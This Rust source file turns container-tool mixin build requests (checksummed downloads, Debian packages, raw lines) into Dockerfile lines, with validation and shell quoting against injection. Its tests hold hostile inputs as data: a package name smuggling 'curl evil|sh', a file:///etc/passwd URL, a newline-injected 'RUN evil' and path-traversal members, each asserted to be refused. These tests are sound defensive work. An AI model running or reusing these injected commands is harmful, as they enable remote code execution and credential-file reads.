//! Turns what a mixin's `build` asks for into Dockerfile lines.
//!
//! A 0.2.0 mixin says *what* the invocation image needs (a program to
//! download and check, Debian packages) and the host writes the lines. The
//! mixin never writes shell for those, so it cannot smuggle anything into
//! them: every field is checked, then single-quoted. Each download becomes
//! one `RUN` that works on Debian and busybox bases alike (`sh`, `mktemp`,
//! `sha256sum`, `curl` or `wget`, and `unzip` or `tar` for archives; the
//! missing ones are installed with apt-get when the base has it), and needs
//! no BuildKit. Raw lines, all a 0.1.0 mixin can give, are still checked
//! by [`super::mixin_lines`].

use thiserror::Error;

use super::mixin_lines::{self, RefusedLine};
use crate::cnab::contract::CNAB_ROOT;
use crate::digest::Digest;
use crate::mixin::{Checksum, ClientDownload, Contribution};

/// A contribution the host will not turn into Dockerfile lines.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum ContributionError {
    /// A download or package list is malformed or unsafe.
    #[error(
        "the {mixin} mixin's build contribution {number} is refused: {reason}; fix or remove the \
         mixin"
    )]
    Refused {
        /// The mixin's name.
        mixin: String,
        /// Its position in what `build` returned, from 1.
        number: usize,
        /// What is wrong.
        reason: String,
    },
    /// A raw line is one a mixin may not emit.
    #[error(transparent)]
    Line(#[from] RefusedLine),
}

/// The Dockerfile lines for `contributions` of the mixin `mixin`, in order,
/// with the template's `escape` character for the raw lines.
pub fn render(
    mixin: &str,
    contributions: &[Contribution],
    escape: char,
) -> Result<Vec<String>, ContributionError> {
    let mut lines = Vec::new();
    let mut raw: Vec<String> = Vec::new();
    let refused = |number: usize, reason: String| ContributionError::Refused {
        mixin: mixin.to_string(),
        number: number + 1,
        reason,
    };
    for (number, contribution) in contributions.iter().enumerate() {
        if let Contribution::DockerfileLine(line) = contribution {
            raw.push(line.clone());
            continue;
        }
        // A run of raw lines must stand on its own: it may not continue
        // into the line the host writes next.
        flush_raw(mixin, &mut raw, &mut lines, escape)?;
        match contribution {
            Contribution::Client(download) => {
                lines.extend(download_lines(mixin, download).map_err(|r| refused(number, r))?);
            }
            Contribution::DebianPackages(packages) => {
                lines.extend(package_lines(mixin, packages).map_err(|r| refused(number, r))?);
            }
            Contribution::DockerfileLine(_) => unreachable!("handled above"),
        }
    }
    flush_raw(mixin, &mut raw, &mut lines, escape)?;
    Ok(lines)
}

fn flush_raw(
    mixin: &str,
    raw: &mut Vec<String>,
    lines: &mut Vec<String>,
    escape: char,
) -> Result<(), RefusedLine> {
    if !raw.is_empty() {
        mixin_lines::check(mixin, raw, escape)?;
        lines.append(raw);
    }
    Ok(())
}

/// The comment and `RUN` that download, check and install one program.
fn download_lines(mixin: &str, d: &ClientDownload) -> Result<Vec<String>, String> {
    check_url("url", &d.url)?;
    let file = d
        .url
        .rsplit('/')
        .next()
        .filter(|f| !f.is_empty())
        .ok_or_else(|| format!("its url {:?} does not end in a file name", d.url))?;
    check_destination(&d.destination)?;
    check_mode(d.mode)?;
    let archive = match &d.archive_member {
        None => None,
        Some(member) => Some((archive_kind(file)?, checked_member(member)?)),
    };
    let (verify, checked_against) = match &d.checksum {
        Checksum::Sha256(given) => {
            // Either case is a SHA-256; the line carries it lowercase.
            let hex = Digest::from_hex(&given.to_ascii_lowercase())
                .map_err(|_| {
                    format!("its checksum {given:?} is not a SHA-256 (64 hexadecimal digits)")
                })?
                .hex();
            (
                format!("echo {}\"  $tmp/dl\" | sha256sum -c -", sh_quote(&hex)),
                format!("sha256 {hex}"),
            )
        }
        Checksum::SumsFile(url) => {
            check_url("sums-file", url)?;
            (
                format!(
                    "get {} \"$tmp/sums\"; sum=$(awk -v f={} '$2 == f || $2 == \"*\" f {{print $1; exit}} \
                     NF == 1 {{print $1; exit}}' \"$tmp/sums\"); if [ -z \"$sum\" ]; then echo {} >&2; \
                     exit 1; fi; echo \"$sum  $tmp/dl\" | sha256sum -c -",
                    sh_quote(url),
                    sh_quote(file),
                    sh_quote(&format!("{mixin} mixin: {url} does not list {file}")),
                ),
                url.clone(),
            )
        }
        Checksum::Unverified => (
            "echo 'no checksum is published for this download; it is installed unverified' >&2"
                .to_string(),
            "nothing (no checksum is published)".to_string(),
        ),
    };
    let (tool, extract, source) = match &archive {
        None => (None, String::new(), "\"$tmp/dl\"".to_string()),
        Some((Archive::Zip, member)) => (
            Some("unzip"),
            format!(
                "mkdir \"$tmp/x\"; unzip -o -q \"$tmp/dl\" {} -d \"$tmp/x\"; ",
                sh_quote(member)
            ),
            format!("\"$tmp/x/\"{}", sh_quote(member)),
        ),
        Some((Archive::TarGz, member)) => (
            Some("tar"),
            format!(
                "mkdir \"$tmp/x\"; tar -xzf \"$tmp/dl\" -C \"$tmp/x\" {}; ",
                sh_quote(member)
            ),
            format!("\"$tmp/x/\"{}", sh_quote(member)),
        ),
    };
    let need_tool = tool.map_or(String::new(), |t| {
        format!("command -v {t} >/dev/null 2>&1 || need=\"$need {t}\"; ")
    });
    let missing_tools = sh_quote(&format!(
        "{mixin} mixin: the base image lacks the tools to install {} and has no apt-get to install them:",
        d.destination
    ));
    let script = format!(
        "set -e; need=''; {need_tool}command -v curl >/dev/null 2>&1 || command -v wget >/dev/null 2>&1 \
         || need=\"$need curl\"; if [ -n \"$need\" ]; then if ! command -v apt-get >/dev/null 2>&1; then \
         echo {missing_tools}\"$need\" >&2; exit 1; fi; apt-get update -qq; DEBIAN_FRONTEND=noninteractive \
         apt-get install -y -qq --no-install-recommends ca-certificates $need; rm -rf /var/lib/apt/lists/*; fi; \
         if command -v curl >/dev/null 2>&1; then get() {{ curl -fsSL -o \"$2\" \"$1\"; }}; \
         else get() {{ wget -q -O \"$2\" \"$1\"; }}; fi; tmp=$(mktemp -d); get {url} \"$tmp/dl\"; {verify}; \
         {extract}dest={dest}; mkdir -p \"${{dest%/*}}/\"; cp {source} \"$dest\"; chmod {mode:o} \"$dest\"; \
         rm -rf \"$tmp\"",
        url = sh_quote(&d.url),
        dest = sh_quote(&d.destination),
        mode = d.mode,
    );
    Ok(vec![
        format!(
            "# {mixin} mixin: {} from {}, checked against {checked_against}",
            d.destination, d.url
        ),
        format!("RUN {script}"),
    ])
}

/// The `RUN` that installs Debian `packages`.
fn package_lines(mixin: &str, packages: &[String]) -> Result<Vec<String>, String> {
    if packages.is_empty() {
        return Err("it asks for Debian packages but names none".into());
    }
    if let Some(bad) = packages.iter().find(|p| !is_debian_package(p)) {
        return Err(format!(
            "{bad:?} is not a Debian package name (lowercase letters, digits, +, - and ., \
             optionally =version)"
        ));
    }
    let list = packages.join(" ");
    let no_apt = sh_quote(&format!(
        "{mixin} mixin: it needs the Debian packages {list}, but the base image has no apt-get"
    ));
    Ok(vec![
        format!("# {mixin} mixin: Debian packages {list}"),
        format!(
            "RUN if ! command -v apt-get >/dev/null 2>&1; then echo {no_apt} >&2; exit 1; fi; \
             apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq \
             --no-install-recommends {list} && rm -rf /var/lib/apt/lists/*"
        ),
    ])
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Archive {
    Zip,
    TarGz,
}

fn archive_kind(file: &str) -> Result<Archive, String> {
    if file.ends_with(".zip") {
        Ok(Archive::Zip)
    } else if file.ends_with(".tar.gz") || file.ends_with(".tgz") {
        Ok(Archive::TarGz)
    } else {
        Err(format!(
            "it names an archive member, but {file:?} is not a .zip, .tar.gz or .tgz"
        ))
    }
}

fn checked_member(member: &str) -> Result<&str, String> {
    let bad = member.is_empty()
        || member.starts_with('/')
        || member
            .split('/')
            .any(|part| part == ".." || part.is_empty())
        || member.chars().any(char::is_control);
    if bad {
        Err(format!(
            "its archive member {member:?} must be a relative path inside the archive, without `..`"
        ))
    } else {
        Ok(member)
    }
}

fn check_url(field: &str, url: &str) -> Result<(), String> {
    let rest = url
        .strip_prefix("https://")
        .or_else(|| url.strip_prefix("http://"));
    match rest {
        Some(rest)
            if !rest.is_empty()
                && !rest.starts_with('/')
                && !url.chars().any(|c| c.is_whitespace() || c.is_control()) =>
        {
            Ok(())
        }
        _ => Err(format!(
            "its {field} {url:?} is not an http:// or https:// URL without spaces"
        )),
    }
}

fn check_destination(destination: &str) -> Result<(), String> {
    let path = std::path::Path::new(destination);
    let normal = crate::lexical::normalize(path);
    if !path.is_absolute()
        || normal.as_deref() != Some(path)
        || destination.ends_with('/')
        || destination.chars().any(|c| c.is_control() || c == '\n')
    {
        return Err(format!(
            "its destination {destination:?} must be an absolute path to a file, without `..`"
        ));
    }
    if path.starts_with(CNAB_ROOT) || path == std::path::Path::new("/") {
        return Err(format!(
            "its destination {destination:?} is inside {CNAB_ROOT}, where the bundle, the runtime \
             and the mixins live"
        ));
    }
    Ok(())
}

fn check_mode(mode: u32) -> Result<(), String> {
    if mode & !0o777 != 0 {
        Err(format!(
            "its mode {mode:o} sets a setuid, setgid or sticky bit (or is not a mode); use \
             permission bits only, such as 755"
        ))
    } else {
        Ok(())
    }
}

/// Debian policy's package names, optionally pinned to a version.
fn is_debian_package(text: &str) -> bool {
    let (name, version) = match text.split_once('=') {
        Some((name, version)) => (name, Some(version)),
        None => (text, None),
    };
    let name_ok = name.len() >= 2
        && name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
        && name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "+-.".contains(c));
    let version_ok = version.is_none_or(|v| {
        !v.is_empty()
            && v.chars()
                .all(|c| c.is_ascii_alphanumeric() || ".+~:-".contains(c))
    });
    name_ok && version_ok
}

/// Single-quotes `text` for a POSIX shell.
fn sh_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn client(url: &str, checksum: Checksum, member: Option<&str>, dest: &str) -> Contribution {
        Contribution::Client(ClientDownload {
            url: url.into(),
            checksum,
            archive_member: member.map(Into::into),
            destination: dest.into(),
            mode: 0o755,
        })
    }

    #[test]
    fn a_checked_archive_download_becomes_one_run() {
        let lines = render(
            "helm3",
            &[client(
                "https://get.helm.sh/helm-v3.17.3-linux-amd64.tar.gz",
                Checksum::SumsFile(
                    "https://get.helm.sh/helm-v3.17.3-linux-amd64.tar.gz.sha256sum".into(),
                ),
                Some("linux-amd64/helm"),
                "/usr/local/bin/helm",
            )],
            '\\',
        )
        .unwrap();
        assert_eq!(lines.len(), 2);
        assert!(
            lines[0].starts_with("# helm3 mixin: /usr/local/bin/helm from https://get.helm.sh/")
        );
        let run = &lines[1];
        assert!(run.starts_with("RUN set -e; "), "{run}");
        assert!(run.contains("command -v tar"), "{run}");
        assert!(
            run.contains("tar -xzf \"$tmp/dl\" -C \"$tmp/x\" 'linux-amd64/helm'"),
            "{run}"
        );
        assert!(
            run.contains("awk -v f='helm-v3.17.3-linux-amd64.tar.gz'"),
            "{run}"
        );
        assert!(run.contains("sha256sum -c -"), "{run}");
        assert!(run.contains("chmod 755 \"$dest\""), "{run}");
        assert!(!run.contains('\n'));
    }

    #[test]
    fn raw_lines_are_checked_and_packages_validated() {
        let lines = render(
            "m",
            &[
                Contribution::DebianPackages(vec!["git".into(), "ca-certificates=2023".into()]),
                Contribution::DockerfileLine("ENV A=b".into()),
            ],
            '\\',
        )
        .unwrap();
        assert!(
            lines[1].contains("install -y -qq --no-install-recommends git ca-certificates=2023")
        );
        assert_eq!(lines[2], "ENV A=b");

        let refused = render(
            "m",
            &[Contribution::DockerfileLine("USER root".into())],
            '\\',
        );
        assert!(
            matches!(refused, Err(ContributionError::Line(_))),
            "{refused:?}"
        );
        // A raw line may not continue into the host's next line.
        let refused = render(
            "m",
            &[
                Contribution::DockerfileLine("RUN echo \\".into()),
                Contribution::DebianPackages(vec!["git".into()]),
            ],
            '\\',
        );
        assert!(
            matches!(refused, Err(ContributionError::Line(_))),
            "{refused:?}"
        );
        let err = render(
            "m",
            &[Contribution::DebianPackages(vec![
                "git; curl evil|sh".into(),
            ])],
            '\\',
        )
        .unwrap_err()
        .to_string();
        assert!(
            err.contains("contribution 1") && err.contains("not a Debian package"),
            "{err}"
        );
    }

    #[test]
    fn unsafe_downloads_are_refused_with_the_field() {
        let cases = [
            (
                client(
                    "file:///etc/passwd",
                    Checksum::Unverified,
                    None,
                    "/usr/bin/x",
                ),
                "url",
            ),
            (
                client(
                    "https://h/x",
                    Checksum::Sha256("abc".into()),
                    None,
                    "/usr/bin/x",
                ),
                "SHA-256",
            ),
            (
                client("https://h/x", Checksum::Unverified, None, "/cnab/app/x"),
                "inside /cnab",
            ),
            (
                client("https://h/x", Checksum::Unverified, None, "/usr/../cnab/x"),
                "without `..`",
            ),
            (
                client("https://h/x", Checksum::Unverified, None, "bin/x"),
                "absolute",
            ),
            (
                client(
                    "https://h/x.zip",
                    Checksum::Unverified,
                    Some("../x"),
                    "/usr/bin/x",
                ),
                "member",
            ),
            (
                client("https://h/x", Checksum::Unverified, Some("x"), "/usr/bin/x"),
                "not a .zip",
            ),
            (
                client(
                    "https://h/x\nRUN evil",
                    Checksum::Unverified,
                    None,
                    "/usr/bin/x",
                ),
                "url",
            ),
        ];
        for (contribution, said) in cases {
            let err = render("m", &[contribution], '\\').unwrap_err().to_string();
            assert!(err.contains(said), "{said}: {err}");
        }
        let mut setuid = client("https://h/x", Checksum::Unverified, None, "/usr/bin/x");
        if let Contribution::Client(d) = &mut setuid {
            d.mode = 0o4755;
        }
        let err = render("m", &[setuid], '\\').unwrap_err().to_string();
        assert!(err.contains("setuid"), "{err}");
    }

    #[test]
    fn a_zip_member_and_a_fixed_checksum() {
        let sum = "a".repeat(64);
        let lines = render(
            "terraform",
            &[client(
                "https://releases.hashicorp.com/terraform/1.2.9/terraform_1.2.9_linux_amd64.zip",
                Checksum::Sha256(sum.clone()),
                Some("terraform"),
                "/usr/local/bin/terraform",
            )],
            '`',
        )
        .unwrap();
        assert!(lines[1].contains(&format!("echo '{sum}'\"  $tmp/dl\" | sha256sum -c -")));
        let upper = render(
            "m",
            &[client(
                "https://h/x",
                Checksum::Sha256("AB".repeat(32)),
                None,
                "/usr/bin/x",
            )],
            '\\',
        )
        .unwrap();
        assert!(
            upper[1].contains(&format!("echo '{}'", "ab".repeat(32))),
            "{upper:?}"
        );
        assert!(lines[1].contains("unzip -o -q \"$tmp/dl\" 'terraform' -d \"$tmp/x\""));
    }
}
